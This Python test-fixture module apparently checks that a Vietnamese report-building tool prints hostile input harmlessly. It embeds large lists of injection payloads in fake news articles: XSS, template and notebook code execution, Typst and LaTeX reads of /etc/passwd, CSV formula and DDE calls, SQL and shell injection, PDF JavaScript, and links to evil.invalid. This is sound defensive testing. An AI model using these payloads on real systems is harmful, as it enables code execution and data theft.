"""Attacks by what they aim at, and the articles that carry them through the whole pipeline.

An attack is a piece of text with the place of an article where it stands. What is expected is always the same: it is
printed as it stands (or with a declared substitute for a character that has no shape), and nothing else happens.
"""

from __future__ import annotations

from html import escape
from pathlib import Path
from typing import NamedTuple

CANARY = "Bí-mật-7719"
"""Stands in a file beside the build; no report may ever hold it."""
MARK = "ATTACKED"
"""What a script that ran would leave behind."""
SECRET = "/tmp/baocao-canary.txt"

TEXT: dict[str, tuple[str, ...]] = {
    "html": (
        f"<script>window.{MARK}=1</script>",
        f"<img src=x onerror=window.{MARK}=1>",
        f'"><svg onload=window.{MARK}=1>',
        f"</p></main><script>window.{MARK}=1</script>",
        f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
        f"<a href=javascript:window.{MARK}=1>xem</a>",
        "<style>*{display:none}</style>",
        "<link rel=stylesheet href=http://evil.invalid/a.css>",
        "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
        "<base href=http://evil.invalid/>",
        "<form action=http://evil.invalid/><input></form>",
        "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#60;b&#62;",
        "--><!-- x --!><![CDATA[ y ]]>",
        f"'-window.{MARK}=1-'",
        f"</title><script>window.{MARK}=1</script>",
        f"</style><script>window.{MARK}=1</script>",
        "<math><mi xlink:href='data:text/html,<script>'>x</mi></math>",
        f"<details open ontoggle=window.{MARK}=1>",
        f"`${{window.{MARK}=1}}`",
        "<object data=http://evil.invalid/x.swf></object>",
        f'<noscript><p title="</noscript><img src=x onerror=window.{MARK}=1>">',
        f"<svg></p><style><a id='</style><img src=1 onerror=window.{MARK}=1>'>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.{MARK}=1&gt;'>",
        f"<template shadowrootmode=open><script>window.{MARK}=1</script></template>",
        "<video autoplay poster=http://evil.invalid/p.png><source src=http://evil.invalid/v.mp4></video>",
        "<img srcset='http://evil.invalid/a 1x' loading=eager> <input type=image src=http://evil.invalid/b>",
        f"<input autofocus onfocus=window.{MARK}=1> <select autofocus onfocus=window.{MARK}=1>",
        "<form id=body name=querySelectorAll><input name=textContent></form><a id=location></a>",
        f"<svg><animate href=#x attributeName=href values=javascript:window.{MARK}=1 /></svg>",
        f"\\u003cscript\\u003ewindow.{MARK}=1\\u003c/script\\u003e +ADw-script+AD4-",
        f"&lt;img src=x onerror=window.{MARK}=1&gt; &amp;lt;b&amp;gt; &#x3c;script&#x3e;",
        "<!--#exec cmd='touch owned' --> <?php system('touch owned') ?> <!ENTITY x SYSTEM 'file:///etc/passwd'>",
        "</style><style>@import url(http://evil.invalid/a.css);body{background:url(//evil.invalid/b)}",
        f"<scr\x00ipt>window.{MARK}=1</scr\x00ipt>".replace("\x00", "\u200b"),
    ),
    "typst": (
        f'#read("{SECRET}")',
        f"#import \"{SECRET}\": *",
        f'#include "{SECRET}"',
        f'#eval("read(\\"{SECRET}\\")")',
        '#image("/etc/hostname")',
        f'#json("{SECRET}")',
        f'#plugin("{SECRET}")',
        '#link("javascript:app.alert(1)")[xem]',
        "#set page(width: 1pt)",
        "#panic()",
        "#sys.inputs",
        '#import "@preview/cades:0.3.0"',
        "]#pagebreak()#[",
        "#{while true {}}",
        '#pdf.attach("/etc/passwd")',
        "<nhan> @nhan #label(\"x\") = Tiêu đề $ x^2 $",
        "\\u{23}read \\# \\[ \\]",
        "// chú thích /* mở",
        "```typ #read(\"/etc/passwd\")``` `#panic()`",
        "@nhan-la @fig:1 <nhan-la> #ref(<nhan-la>) #cite(<x>)",
        "#show: none",
        "#let json(x) = panic(); #let text = none",
        "#bibliography(\"/etc/passwd\") #csv(\"/etc/passwd\") #yaml(\"/etc/passwd\") #xml(\"/etc/passwd\")",
        "/* không đóng",
        "không mở */ ]]] ))) }}}",
        "\\u{0} \\u{d800} \\u{110000} \\u{202e}",
        "$ mat(1, 2; 3, 4) #pagebreak() $ $$ #v(1000cm) $$",
        "/ Mục: giải nghĩa + một + hai - ba --- ~ -? \\",
    ),
    "markdown": (
        "# Tiêu đề giả",
        "[xem](javascript:alert(1)) ![](http://evil.invalid/x.png)",
        "| a | b |\\n|---|---|",
        "```python\\nimport os\\n```",
        "**đậm** _nghiêng_ ~~xóa~~ `mã`",
        "[^1] [x]: http://evil.invalid/",
        "<http://evil.invalid/>",
        "- [ ] việc; > trích; --- ngang",
        "[a][b] [b]: javascript:alert(1) [b]: <data:text/html,x> 'x'",
        "<javascript:alert(1)> <https://evil.invalid/@a:b@c>",
        "chú[^n] [^n]: <script>alert(1)</script>",
        "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
        "::: {.x onclick=alert(1)} ~~~{=html} <b> ~~~ :::",
        "$$\\input{/etc/passwd}$$ $`x`$ ==x== ^x^ ~x~",
        "Tiêu đề\\n====\\n*[HTML]: x",
    ),
    "template": (
        "{{ 7*7 }} {{ config }}",
        "{% include '/etc/passwd' %}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{# chú thích #} {%- raw -%}",
        "${{7*7}} <%= 7*7 %> #{7*7}",
        "%(name)s {0.__class__} %s %n {q1} {name}",
        "{{ cycler.__init__.__globals__.os.popen('touch owned').read() }}",
        "{%- for x in (1).__class__.__base__.__subclasses__() -%}{%- endfor -%}",
        "{{=<% %>=}} <%={{ }}=%> {{{raw}}} {{&x}} {{>partial}}",
        "# for item in seq: ## {#- -#} {{ '\\n' | safe }}",
    ),
    "latex": (
        "$\\input{/etc/passwd}$",
        "\\write18{touch owned} \\immediate",
        "$$\\frac{1}{0}$$ \\begin{align}x\\end{align}",
        "\\documentclass{article} \\def\\x{\\x}\\x",
        "$\\href{javascript:alert(1)}{x}$",
        "\\url{http://evil.invalid/} \\catcode`\\%=12",
        "\\(x\\) \\[x\\] $a$b$c$ $$ $ $",
        "\\includegraphics{/etc/passwd} \\openin5=/etc/passwd \\read5 to \\x",
        "$\\unicode{x41} \\require{html} \\class{x}{y} \\style{color:red}{x}$",
        "$x^{$ $_$ $\\frac{$ $\\left($",
    ),
    "notebook": (
        '"); import os; os.system("touch owned"); ("',
        "'''; raise SystemExit; '''",
        "%run owned.py",
        "!touch owned",
        "%%bash touch owned",
        "__import__('os').system('touch owned')",
        'article = "other.json"  # parameters',
        "\\\\N{SPACE}\\\\x00\\\\u0000",
        "get_ipython().system('touch owned')",
        "%%html <script>x</script>",
        "%load_ext autoreload %env X=1 ?print !!touch owned",
        "{article!r} {lang} f'{1/0}' {{cookiecutter}}",
    ),
    "csv": (
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.invalid/?"&A1)',
        "+SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "＝1+1",
        'a","b";"c',
        "=WEBSERVICE('http://evil.invalid/')",
        "\t=1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
        "\u200b=1+1",
        "'=1+1",
        "＋1+1",
        "－1",
        "＠SUM(1)",
        "=IMPORTXML(CONCAT(\"http://evil.invalid/?\",A1),\"//a\")",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "\"=1+1\"",
        "%=1|x;=1,=2",
    ),
    "data": (
        '{"quantities": [{"low": 1}]}',
        '"}, "metadata": {"title": "giả',
        "\\u0000 \\ud800 \\\" \\\\",
        "__proto__ constructor toString",
        "NaN Infinity -0 1e999",
        "null true undefined",
        "</script><!-- ]]> \\u2028 \\/",
        "@context @id @graph: _:b0 <http://evil.invalid/#x> a owl:Thing .",
        "\"\"\" . } GRAPH <x> { ?s ?p ?o } #",
    ),
    "sql": (
        "'; DROP TABLE facts; --",
        "' OR '1'='1",
        "read_csv('/etc/passwd')",
        "COPY (SELECT 1) TO 'owned'",
        "ATTACH 'owned.db'; INSTALL httpfs",
        "$1 ? :ten --",
        "read_parquet('s3://evil.invalid/x'); LOAD httpfs",
        '"; CREATE VIEW articles AS SELECT 1; --',
        "PRAGMA database_list; SET enable_external_access=true; EXPORT DATABASE 'owned'",
        "$$ $tag$ E'\\x41' /* -- */ glob('/etc/*') getenv('HOME')",
    ),
    "shell": (
        "$(touch owned) `touch owned`",
        "; touch owned; | tee owned & > owned",
        "${HOME} ~root $PATH !!",
        "'; touch owned; '",
        "$(shell touch owned) $(eval x) %: all",
        "../../../../etc/passwd /etc/shadow",
        "--output=owned -rf --",
        "C:\\\\Windows\\\\system32 \\\\\\\\evil.invalid\\\\share file:///etc/passwd",
        "~/.ssh/id_rsa <(touch owned) {a,b} $((1+1)) !touch",
        "\u2024\u2024\u2215etc\u2215passwd ．．／ \uff0fetc\uff0fpasswd",
    ),
    "pdf": (
        "<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>",
        ") Tj ET endstream endobj trailer",
        "(/Launch /F (calc.exe))",
        "/AA /URI (http://evil.invalid/) /EmbeddedFile",
        "/Names [(x) << /S /GoToR /F (\\\\evil.invalid\\x) >>] /GoToE /Rendition",
        "\\051 \\) %%EOF xref startxref 0",
    ),
    "characters": (
        "Số đảo \u202e4201\u202c hết",
        "Cách ly \u2067x\u2069 \u200fy\u200e",
        "biểu tượng \U0001f600 \U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001f1fb\U0001f1f3",
        "chữ Hán 漢字 và kana かな",
        "chữ Ả Rập مرحبا",
        "chữ Thái สวัสดี",
        "chữ Khmer ខ្មែរ",
        "vùng riêng \ue000 \U000f0000",
        "dấu chồng a" + "\u0301\u0302\u0303\u0304" * 30,
        "điều khiển \x01 \x07 \x1b[31m \x7f",
        "gạch mềm Thanh\u00adTrì và nối\u200dliền\u200ckhông",
        "trùng dạng Тhаnh Тrì (chữ Kirin)",
        "không gán \u0378 \ufffe \U0010ffff",
        "chữ ghép \ufb01 Ⅷ ① ㎡ ½",
        "thẻ \U000e0041\U000e007f và \ufff9chú\ufffa thích\ufffb",
        "tách dòng\u2028 và đoạn\u2029 xong",
        "bàn phím emoji 1\ufe0f\u20e3 👩🏽‍🚒 🏴\U000e0067\U000e0062\U000e007f",
        "chữ Lào ສະບາຍດີ, Miến မင်္ဂလာပါ, Tây Tạng བོད, Mông Cổ ᠮᠣᠩᠭᠣᠯ",
        "chữ Hê-brơ שלום và Tamil வணக்கம், Hindi नमस्ते",
        "chữ Nôm \U00020000 𡨸喃 \U000e0100",
        "Hàn 한국어 \u1112\u1161\u11ab (Jamo rời)",
        "dấu vây x\u20dd\u0489\u034f\u0338\u1ab0 và \u180e\u2060\u2061\u3164\uffa0",
        "nhạc 𝄞 toán 𝓐𝟘 chữ hình nêm 𒀀 tượng hình 𓀀 mạt chược 🀄",
        "biến thể ︎️ chữ rộng ＡＢＣ１２３ và ﷽ ⸻ ꧅",
    ),
}  # fmt: skip
"""Attacks that stand in the sentences of an article, by kind; \\n stays a backslash and an n."""

PAGES: dict[str, dict[str, str]] = {
    "html": {
        "title": f"<script>window.{MARK}=1</script>",
        "author": f'"><img src=x onerror=window.{MARK}=1>',
        "outlet": f"</title><script>window.{MARK}=1</script>",
        "url": f"javascript:window.{MARK}=1",
    },
    "typst": {"title": f'#read("{SECRET}")', "author": "#panic()", "outlet": "]#eval(\"1\")#[", "url": "file:///etc/passwd"},
    "notebook": {"title": '"""; import os', "author": "!touch owned", "outlet": "%run x", "url": "http://[::1"},
    "csv": {"title": "=1+1|'x'!A0", "author": "@SUM(A1)", "outlet": "-1+1", "url": "https://evil.invalid/=1"},
    "shell": {"title": "../../$(touch owned)", "author": "`id`", "outlet": "; id", "url": "//evil.invalid/x"},
    "characters": {"title": "Xã \u202eabc\u202c \x07 漢", "author": "\U0001f600 Lan", "outlet": "\ue000", "url": "https://evil.invalid/\u202e"},
}  # fmt: skip
"""What a page states of itself in its head, by kind."""


MARKUP = (
    f"<script>window.{MARK}=1</script><script src=http://evil.invalid/x.js></script>",
    f"<svg onload=window.{MARK}=1><script>window.{MARK}=1</script><text>12 hộ</text></svg>",
    f"<math><mtext><table><mglyph><style><!--</style>"
    f"<img title='--&gt;&lt;img src=1 onerror=window.{MARK}=1&gt;'></table>",
    f'<noscript><p title="</noscript><img src=x onerror=window.{MARK}=1>"></noscript>',
    f"<template><script>window.{MARK}=1</script><p>Trong khuôn có 12 hộ.</p></template>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe><object data=http://evil.invalid/a></object>",
    "<base href=http://evil.invalid/><meta http-equiv=refresh content='0;url=http://evil.invalid/'><a href=x>xem</a>",
    f"<a href='javascript:window.{MARK}=1' ping=http://evil.invalid/>xem 12 hộ</a> <a href='data:text/html,x'>y</a>",
    "<a href='http://user:secret@evil.invalid/'>xem</a><a href='\\\\evil.invalid\\x'>y</a><a href=//evil.invalid>z</a>",
    "<style>@import url(http://evil.invalid/a.css);*{display:none!important}</style>"
    "<p style='background:url(//evil.invalid)'>x</p>",
    f"<form action=http://evil.invalid><input name=a autofocus onfocus=window.{MARK}=1><button>Gửi</button></form>",
    f"<p>x<!--><img src=x onerror=window.{MARK}=1>--><p>y<![CDATA[<script>window.{MARK}=1</script>]]>",
    f"<textarea></textarea><script>window.{MARK}=1</script><xmp><img src=x onerror=window.{MARK}=1></xmp>",
    f"<table><tr><td>12</td></tr><script>window.{MARK}=1</script><tr>"
    f"<td onclick=window.{MARK}=1>=1+1</td></tr></table>",
    '<script type="application/ld+json">{"@type":"NewsArticle","datePublished":"2021-02-31","author":{"name":'
    f'"<script>window.{MARK}=1"}},"articleSection":"#read(1)","@graph":[[[]]]}}</script>',
    "<meta property=article:published_time content='9999999-99-99T99:99'><meta property=og:url content='http://a\nb'>"
    "<meta property=og:title content='{{7*7}} $(touch owned)'><meta name=author content='=1+1'>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'><!ENTITY b '&a;&a;'>]><p>&a;&b;</p>",
    "<p>&#0;&#xD800;&#x110000;&#128;&#xFFFE;&nbsp;&notit;&#x202e;4201&#8203;</p>",
)  # fmt: skip
"""What a page may hold beside its words, as markup."""


class Attack(NamedTuple):
    kind: str
    place: str
    """sentence, title, author, outlet, url, markup."""
    text: str
    article: str
    """Name of the article that carries it."""


def sentence(number: int, payload: str) -> str:
    """A paragraph with a figure and the attack in it."""
    return f"Năm 2023, thôn thứ {number} có {100 + number} hộ dân; ghi chú: {payload} hết ghi chú."


def names(number: int, payload: str) -> str:
    """A paragraph that begins with the attack, and one where it is a part of names that a report prints."""
    return (
        f"{payload} là lời ghi ở thôn thứ {number}, nơi có {200 + number} hộ.\n\n"
        f"Ông Lê Văn {payload}, Chủ tịch UBND xã, cho biết: tỷ lệ hộ dùng {payload} đạt {number},5%, tăng 2% so với "
        f"năm 2022; phấn đấu đến năm 2030 xây {300 + number} nhà {payload}, theo Quyết định số {number}/QĐ-UBND về "
        f"{payload}."
    )


def write(folder: Path) -> list[Attack]:
    """The articles, in `folder`; every attack with the article that holds it."""
    folder.mkdir(parents=True, exist_ok=True)
    attacks: list[Attack] = []
    for kind, payloads in TEXT.items():
        name = f"text-{kind}"
        told = [f"{sentence(n, payload)}\n\n{names(n, payload)}" for n, payload in enumerate(payloads, 1)]
        body = "\n\n".join(told)
        asked = f"Phóng viên: {payloads[0]} nghĩa là gì?\n\nÔng Lê Văn Bình: Đó là {payloads[-1]} của 12 hộ.\n"
        head = "Kết quả của xã\nNgày đăng 03/04/2021 | 07:15\n"
        (folder / f"{name}.txt").write_text(f"{head}\n{body}\n\n{asked}", encoding="utf-8", newline="")
        attacks += [Attack(kind, "sentence", payload, name) for payload in payloads]
    for kind, stated in PAGES.items():
        name = f"page-{kind}"
        metas = {"og:title": "title", "author": "author", "og:site_name": "outlet", "og:url": "url"}
        head = "".join(
            f'<meta property="{key}" name="{key}" content="{escape(stated[field])}">' for key, field in metas.items()
        )
        body = "".join(f"<p>{escape(sentence(n, p))}</p>" for n, p in enumerate(TEXT[kind][:6], 1))
        page = (
            f"<!DOCTYPE html><html><head><meta charset=utf-8><title>{escape(stated['title'])}</title>{head}</head>"
            f"<body><article><h1>{escape(stated['title'])}</h1>{body}</article></body></html>"
        )
        (folder / f"{name}.html").write_text(page, encoding="utf-8")
        attacks += [Attack(kind, place, text, name) for place, text in stated.items()]
    for number, markup in enumerate(MARKUP, 1):
        name = f"markup-{number:02}"
        told = [f"<p>{sentence(n, 'không có gì lạ')}</p>" for n in (1, 2, 3)]
        page = (
            f"<html><head><meta charset=utf-8></head><body><article><h1>Kết quả của xã</h1>{told[0]}{markup}{told[1]}"
        )
        (folder / f"{name}.html").write_text(f"{page}{told[2]}</article></body></html>", encoding="utf-8")
        attacks.append(Attack("markup", "markup", markup, name))
    return attacks


NAMES = (
    "$(touch owned).txt", "`touch owned`.txt", "; touch owned;.txt", "a b  c.txt", "'\".txt", "a&b|c.txt", "=cmd.txt",
    "%00.txt", "#read.md", "{{x}}.txt", "<script>.txt", "*.txt", "~root.txt", "CON.txt", "Тhanh-Trì.txt", "漢字.txt",
    "bài viết số 1.txt", "a:b.txt", "$HOME.txt", "%.txt",
)  # fmt: skip
"""File names that must work as they are."""
REFUSED_NAMES = (
    "-rf.txt", "--output=x.txt", ".hidden.txt", "a\nb.txt", "a\tb.txt", "a\x1b[2Jb.txt", "\u202egpj.txt",
    "a\u200bb.txt", "back\\slash.txt", "d" * 251 + ".txt", "\udcff.txt",
)  # fmt: skip
"""File names that are refused in one line, while the other articles get their reports."""

MAKE_NAMES = (
    'a.txt;touch$$IFS""owned;.txt', 'b:;touch$$IFS""owned;.txt', "c$(shell).txt", "d#e.txt", "f%g.txt", "h=i.txt",
    "j k.txt", "l$(shell touch owned).txt", "~.txt", "*.txt", "m|n.txt", "o&touch$IFS.txt", "p`touch owned`.txt",
    "q>owned.txt", "r'\".txt", "s(t).txt", "${HOME}.txt", "u;v.txt", "@w.txt", "+x.txt",
)  # fmt: skip
"""File names that mean something to make or to the shell of its recipes."""

LEADS = {
    "device.txt": "/dev/null", "endless.txt": "/dev/zero", "gone.txt": "nowhere.txt", "loop.txt": "loop.txt",
    "nothing.txt": "/dev/null", "outside.txt": "../private.txt", "passwd.txt": "/etc/passwd",
    "round.txt": "../articles/../private.txt", "self.txt": "/proc/self/environ",
}  # fmt: skip
"""Links in a folder of articles that somebody sent, and where they lead."""

ADDED = (
    "../../../owned", "/etc/passwd", "-rf", "$(touch owned)", "a\nb", "`owned` [x](javascript:alert(1)) | y",
    "<script>x</script>", "Xã \u202eabc\u202c", "CON", "x" * 400, "😀", "..", "=cmd|' /C calc'!A0",
)  # fmt: skip
"""Titles of pages that `baocao add` stores."""
SENT_ON = (
    "file:///etc/passwd",
    "ftp://127.0.0.1/x",
    "data:text/plain,owned",
    "gopher://127.0.0.1/",
    "//[bad",
    "/again",
)
"""Where a server may send `baocao add` on to: nowhere but to http(s), and not for ever."""

PARAMETERS = (
    '"); import os; os.system("touch owned"); ("', "\'\'\'; raise SystemExit; \'\'\'", '"""; raise SystemExit; """',
    "\\", "\\N{SPACE}\\x41\\u0041\\", "a\nb\r\nc\td", "{x} {{y}} %s %(z)s ${w}", "$(touch owned) `touch owned`",
    "\u202egpj.exe\u2028\x85", "%run owned.py", "None", "😀 \ue000",
)  # fmt: skip
"""Values of a notebook's parameters."""

_ENTRY = "corrections:\n - {do: add, kind: quantity, quote: x, reason: r, by: b, on: 2020-01-01, "
CORRECTIONS = {
    "a tag that would make an object": "- !!python/object/apply:os.system ['touch owned']",
    "a tag of one's own": "corrections: [!x {do: accept}]",
    "aliases that grow without end": "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]",
    "an alias of itself": "a: &a [*a]",
    "a merge key": "corrections:\n - <<: {do: accept}",
    "nesting without end": "[" * 5000,
    "no YAML": "corrections: [",
    "two documents": "corrections: []\n---\ncorrections: []",
    "no UTF-8": b"\xff\xfe",
    "a NUL": b"corrections: []\x00",
    "an unknown field": "corrections: []\nrun: touch owned",
    "another type": "corrections: 3",
    "a list of numbers": "corrections: [3]",
    "a name twice": "corrections: []\ncorrections: []",
    "a name that is a list": "? [a, b]\n: c",
    "an endless number": _ENTRY + "values: {low: " + "9" * 5000 + "}}",
    "a number with an endless exponent": _ENTRY + "values: {low: 1e999999}}",
    "no number": _ENTRY + "values: {low: nan}}",
    "more than any number": _ENTRY + "values: {low: Infinity}}",
    "a place beyond the text": _ENTRY + "start: -1, end: 99999999999999999999}",
    "a day that is none": _ENTRY.replace("01-01", "02-31") + "start: 1}",
}  # fmt: skip
"""Corrections files that must be refused in one line that names the file."""

SETTINGS: dict[str, tuple[str | bytes, ...]] = {
    "office.toml": (
        "agency = ", "run = 'touch owned'", b"\xff\xfe", "agency = 3", "[agency]\nx = 1", "\x00", "a = 1\na = 2",
    ),
    "issue.json": ("{", "[]", b"\xff", '{"format": "other/9"}', '{"figures": 3}', "[" * 100_000, '{"format": NaN}'),
}  # fmt: skip
"""Files of a project that somebody sends, by name."""

MESSAGES: tuple[bytes, ...] = (
    b"", b"{", b"[]", b"null", b"\xff\xfe", b'{"version": 3}', b"[" * 50_000, b'{"do": "accept", "__class__": "x"}',
    b'{"version":"","do":"accept","kind":"quantity","fact":"../../etc/passwd","reason":"r","by":"b"}',
    b'{"version":"","do":"add","kind":"quantity","start":-1,"end":-1,"values":{},"reason":"r","by":"b"}',
    b'{"version":"","do":"accept","kind":"quantity","fact":"q1","reason":"\\ud800","by":"b"}',
    b'{"version":"","do":"accept","kind":"quantity","fact":"q1","reason":"r","by":"b","path":"/tmp/x"}',
    b'{"version":"","do":"add","kind":"quantity","start":0,"end":99999999999999999999999,"reason":"r","by":"b"}',
)  # fmt: skip
"""Bodies that a page of the review server would never send."""
